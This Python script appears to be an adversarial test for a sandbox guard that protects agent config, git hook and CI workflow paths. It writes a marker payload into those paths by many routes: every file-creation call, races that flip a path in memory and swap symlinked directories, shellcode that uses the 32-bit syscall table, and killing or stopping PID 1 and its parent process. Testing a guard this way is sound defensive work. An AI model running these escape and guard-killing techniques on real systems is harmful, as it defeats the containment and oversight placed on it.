"""Tries without end to make protected names, in every way and in every race; run inside the sandbox, in `ws`."""

import contextlib
import ctypes
import mmap
import os
import platform
import signal
import socket
import sys
import threading

NAMES = [
    ".mcp.json", ".envrc", ".vscode", ".claude", ".env.local", ".github/workflows", ".github/actions", ".git/commondir",
    ".git/config.worktree", ".git/hooks/post-checkout", ".git/hooks/post-index-change", ".git/info/attributes",
    ".git/objects/info/alternates", ".git/modules", ".git/worktrees", "conf/included", "tools/hooks/post-checkout",
    "missing/included",
]  # fmt: skip
EVIL = b"#!/bin/sh\n[core]\n\tfsmonitor = touch planted\ntouch planted\n"
ROUNDS = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
quiet = contextlib.suppress(OSError, ValueError)


def seed(name: str) -> str:
    with open(name, "wb") as file:
        file.write(EVIL)
    os.chmod(name, 0o755)
    return name


def plainly(name: str, number: int) -> None:
    """Every call that makes a name, once."""
    own = f"src/seed-{threading.get_ident()}-{number % 7}"
    with quiet:
        os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
    with quiet, open(name, "wb") as file:
        file.write(EVIL)
    with quiet:
        os.rename(seed(own), name)
    with quiet:
        os.link(seed(own), name)
    with quiet:
        os.symlink(os.path.abspath(seed(own)), name)
    with quiet:
        os.mkdir(name)
    with quiet:
        os.mknod(name)
    with quiet:
        os.mkfifo(name)
    with quiet:
        hidden = os.open("src", os.O_TMPFILE | os.O_RDWR, 0o755)
        os.write(hidden, EVIL)
        os.link(f"/proc/self/fd/{hidden}", name, follow_symlinks=True)
        libc.linkat(hidden, b"", -100, name.encode(), 0x1000)
        os.close(hidden)
    with quiet, socket.socket(socket.AF_UNIX) as local:
        local.bind(name)
    with quiet:
        libc.renameat2(-100, seed(own).encode(), -100, name.encode(), 2)
        libc.syscall(437, -100, name.encode(), (ctypes.c_uint64 * 3)(0o101, 0o755, 0), 24)
        libc.syscall(0x40000000 + 2, name.encode(), 0o101, 0o755)


def all_names() -> None:
    for number in range(ROUNDS):
        for name in NAMES:
            plainly(name, number)


def flip_memory() -> None:
    """The name changes after the judge has read it."""
    for good, bad in ((b"fine.txt1", b".mcp.json"), (b".git/commondiq", b".git/commondir"), (b".vscodf", b".vscode")):
        buffer = ctypes.create_string_buffer(good)
        done = threading.Event()

        def flip(buffer=buffer, good=good, bad=bad, done=done) -> None:
            while not done.is_set():
                ctypes.memmove(buffer, bad, len(bad))
                ctypes.memmove(buffer, good, len(good))

        flipper = threading.Thread(target=flip)
        flipper.start()
        for _ in range(ROUNDS * 20):
            made = libc.open(buffer, os.O_CREAT | os.O_WRONLY, 0o755)
            if made >= 0:
                os.close(made)
            libc.rename(b"src/a.py", buffer)
            libc.rename(buffer, b"src/a.py")
            libc.unlink(good)
            libc.mkdir(buffer, 0o755)
            libc.rmdir(good)
        done.set()
        flipper.join()


def swap_directories() -> None:
    """The directory changes between the look and the making."""
    os.makedirs("src/real", exist_ok=True)
    going = True

    def swap() -> None:
        while going:
            with quiet:
                os.symlink("../.git", "src/one")
                os.rename("src/one", "src/way")
                os.symlink("real", "src/two")
                os.rename("src/two", "src/way")

    swapper = threading.Thread(target=swap)
    swapper.start()
    for _ in range(ROUNDS * 20):
        for name in ("commondir", "config.worktree", "modules"):
            with quiet, open(f"src/way/{name}", "wb") as file:
                file.write(EVIL)
            with quiet:
                os.mkdir(f"src/way/{name}")
            with quiet:
                os.rename(seed("src/s3"), f"src/way/{name}")
            with quiet:
                os.unlink(f"src/real/{name}")
            with quiet:
                os.rmdir(f"src/real/{name}")
    going = False
    swapper.join()


def move_whole_directories() -> None:
    """Protected names that were made elsewhere, or a way to them that is laid anew."""
    for _ in range(ROUNDS):
        for inner, top in ((".github", "workflows"), (".yarn", "releases"), (".git/objects", "info")):
            with quiet:
                os.makedirs(f"src/x/{top}", exist_ok=True)
                os.rename("src/x", inner)
            with quiet:
                os.rename(inner, f"src/away{os.urandom(3).hex()}")
                os.rename("src/x", inner)
            with quiet:
                os.symlink("src/x", inner)
            with quiet:
                os.mkdir(inner)
                os.mkdir(f"{inner}/{top}")
        for way in ("conf", "tools", "tools/hooks"):
            with quiet:
                os.rename(way, f"src/gone{os.urandom(3).hex()}")
            with quiet:
                os.makedirs(way)


def other_call_table() -> None:
    """32-bit calls have other numbers."""
    if platform.machine() != "x86_64":
        return
    for number in (39, 8):  # mkdir and creat
        if os.fork() == 0:
            path = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)
            path.write(b".mcp.json\0")
            place = ctypes.addressof(ctypes.c_char.from_buffer(path))
            code = b"\x53\xb8" + number.to_bytes(4, "little") + b"\xbb" + (place & 0xFFFFFFFF).to_bytes(4, "little")
            path.seek(64)
            path.write(code + b"\xb9\xed\x01\x00\x00\xcd\x80\x5b\xc3")
            ctypes.CFUNCTYPE(ctypes.c_int)(place + 64)()
            os._exit(0)
        os.wait()


def without_the_guard() -> None:
    """Whoever ends the guard has nobody left to make names for it."""
    for target in (1, os.getppid()):
        with quiet:
            os.kill(target, signal.SIGKILL)
        with quiet:
            os.kill(target, signal.SIGSTOP)
    with quiet, open("/proc/1/mem", "r+b") as memory:
        memory.write(b"x")


without_the_guard() if os.getppid() == 1 else None
other_call_table()
workers = [threading.Thread(target=work) for work in (all_names, flip_memory, swap_directories, move_whole_directories)]
for worker in workers:
    worker.start()
for worker in workers:
    worker.join()
for name in NAMES:
    with quiet, open(name, "wb") as file:
        file.write(EVIL)
print("TRIED")
